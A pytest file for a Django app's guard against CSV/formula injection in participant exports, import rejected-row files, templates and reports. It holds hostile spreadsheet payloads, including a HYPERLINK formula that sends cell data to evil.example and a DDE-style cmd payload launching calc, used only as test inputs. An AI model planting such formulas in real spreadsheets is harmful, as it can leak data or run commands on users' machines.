"""Issue 10 §1: no download Kompis writes holds a formula, whatever people typed (CSV/formula injection).

Every XLSX is checked at the XML level (no <f> element anywhere, every text cell a string) and read back with
openpyxl (no cell of data type "f"); every CSV text cell is checked for a first character a spreadsheet
would read as a formula. The same payloads go through sign-up, the participants export (CSV, XLSX), the
import's rejected-rows file (CSV, XLSX), the import template and the report downloads (CSV, XLSX).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation

from kompis.core import cells
from kompis.participants import importing
from kompis.participants.models import Participant
from tests.factories import ParticipantFactory
from tests.importing.conftest import csv_bytes, row

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-2",
    "=2+2",
    "\tTAB",
    "\rCR",
]
RISKY = tuple("=+-@\t\r")
# XML reads a bare carriage return back as a line feed (not a security matter).
IN_XLSX = {p.replace("\r", "\n") for p in PAYLOADS}


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_no_formula_xlsx(data: bytes) -> list[str]:
    """No formula in any sheet (XML and openpyxl's reading); returns every text cell value."""
    import openpyxl

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode()
                assert not re.search(r"<(\w+:)?f[\s>/]", xml), f"formula element in {name}"
                assert 't="str"' not in xml and "t='str'" not in xml  # a formula's cached string
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for sheet in workbook.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def assert_no_risky_csv(text: str, delimiter: str = ",") -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))
    for r in rows:
        for value in r:
            if value.startswith(RISKY):
                try:
                    float(value)  # a number may start with - or +
                except ValueError:
                    pytest.fail(f"CSV text cell starts like a formula: {value!r}")
    return rows


@pytest.fixture
def hostile(world):
    """Participants whose names and texts are the payloads, in Uppsala."""
    people = []
    for i, payload in enumerate(PAYLOADS):
        people.append(
            ParticipantFactory(
                organisation=world.org,
                region=world.uppsala,
                municipality_id="0380",
                first_name=payload,
                last_name=PAYLOADS[(i + 1) % len(PAYLOADS)],
                phone=f"+46 70 123 45 6{i}",
            )
        )
    return people


# --- the helper ----------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_guard_and_unguard(payload):
    assert cells.guard(payload) == "'" + payload
    assert cells.unguard(cells.guard(payload)) == payload
    assert cells.csv_value(payload) == "'" + payload


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert cells.csv_row([-2, 1.5, True, None, "Åsa", "it's"]) == [-2, 1.5, "true", "", "Åsa", "it's"]
    assert cells.unguard("'quoted") == "'quoted" and cells.unguard("'") == "'"


# --- sign-up and the participants export ---------------------------------------------------------


def test_signup_payload_names_are_exported_without_formulas(client, world):
    from tests.participants.test_signup import VALID  # a valid sign-up form

    response = client.post(
        reverse("public:signup", args=[world.org.slug]),
        {**VALID, "first_name": PAYLOADS[0], "last_name": PAYLOADS[1]},
    )
    assert response.status_code in (200, 302)
    assert Participant.objects.filter(first_name=PAYLOADS[0]).exists()
    client.force_login(world.admin)
    rows = assert_no_risky_csv(body(client.get(reverse("participants:export", args=["csv"]))).decode())
    assert ["'" + PAYLOADS[0], "'" + PAYLOADS[1]] in [r[14:16] for r in rows]
    texts = assert_no_formula_xlsx(body(client.get(reverse("participants:export", args=["xlsx"]))))
    assert PAYLOADS[0] in texts and PAYLOADS[1] in texts


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_participants_export_has_no_formula(client, world, hostile, fmt):
    client.force_login(world.uppsala_coordinator)
    data = body(client.get(reverse("participants:export", args=[fmt])))
    if fmt == "csv":
        rows = assert_no_risky_csv(data.decode("utf-8"))
        names = {r[14] for r in rows[1:]}
        assert names == {"'" + p for p in PAYLOADS}
        assert {r[2] for r in rows[1:]} == {str(p.birth_year) for p in hostile}  # numbers stay numbers
    else:
        texts = assert_no_formula_xlsx(data)
        assert set(texts) >= IN_XLSX


def test_export_round_trips_through_the_import(client, world, hostile):
    """The importer takes the guard off again: the export of one organisation imports into another as-is."""
    client.force_login(world.uppsala_coordinator)
    data = body(client.get(reverse("participants:export", args=["csv"])))
    table = importing.read_table(data, "export.csv")
    validation = importing.validate(table, organisation=world.other_org)
    assert validation.ok, [e.message for e in validation.errors]
    got = {(r.values["first_name"], r.values["last_name"], r.values["phone"]) for r in validation.valid}
    assert got == {(p.first_name.strip(), p.last_name.strip(), p.phone) for p in hostile}  # cells are trimmed


# --- the import's rejected rows and template -----------------------------------------------------


def _rejected(client, data: bytes, name: str) -> bytes:
    response = client.post(reverse("participants:import_preview"), {"file": SimpleUploadedFile(name, data)})
    key = response.context["key"]
    return client.post(reverse("participants:import_rejected"), {"key": key}).content


def test_rejected_rows_csv_has_no_formula(client, world):
    client.force_login(world.admin)
    rows = [row(f"P{i}", first_name=p, last_name=p, gender="=2+2") for i, p in enumerate(PAYLOADS)]
    out = _rejected(client, csv_bytes(rows, delimiter=";"), "people.csv").decode("utf-8")
    parsed = assert_no_risky_csv(out, delimiter=";")
    assert len(parsed) == len(PAYLOADS) + 1
    assert parsed[1][4 + 10] == "'" + PAYLOADS[0]  # first_name after the 14 contract columns


def test_rejected_rows_xlsx_has_no_formula(client, world):
    client.force_login(world.admin)
    header = [*importing.CONTRACT_COLUMNS, "first_name", "last_name"]
    rows = []
    for i, p in enumerate(PAYLOADS):
        values = row(f"P{i}", first_name=p, last_name=p, gender="=2+2")
        rows.append([values.get(c, "") for c in header])
    from openpyxl import Workbook

    workbook = Workbook()
    for i, values in enumerate([header, *rows], 1):  # text cells, as a spreadsheet typed by people has
        for j, value in enumerate(values, 1):
            cells.put(workbook.active, i, j, value)
    upload = io.BytesIO()
    workbook.save(upload)
    out = _rejected(client, upload.getvalue(), "people.xlsx")
    texts = assert_no_formula_xlsx(out)
    assert set(texts) >= IN_XLSX and "=2+2" in texts


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_template_has_no_formula(client, world, fmt):
    client.force_login(world.admin)
    response = client.get(reverse("participants:import_template", args=[fmt]))
    assert response.status_code == 200
    if fmt == "csv":
        assert_no_risky_csv(response.content.decode("utf-8"))
    else:
        assert_no_formula_xlsx(response.content)


# --- report downloads ---------------------------------------------------------------------------


def test_report_downloads_have_no_formula(client, world):
    world.org.name = PAYLOADS[0]
    world.org.save()
    world.project.name = "=2+2"
    world.project.save()
    ParticipantFactory(organisation=world.org, region=world.uppsala, project=world.project)
    client.force_login(world.admin)
    csv_text = client.get(reverse("reports:download", args=["csv"]), {"year": "2026"}).content.decode()
    rows = assert_no_risky_csv(csv_text)
    assert any(c.startswith("'=2+2") for r in rows for c in r), (
        "the project's name is a label of the targets table"
    )
    xlsx = client.get(reverse("reports:download", args=["xlsx"]), {"year": "2026"}).content
    texts = assert_no_formula_xlsx(xlsx)
    assert PAYLOADS[0] in texts
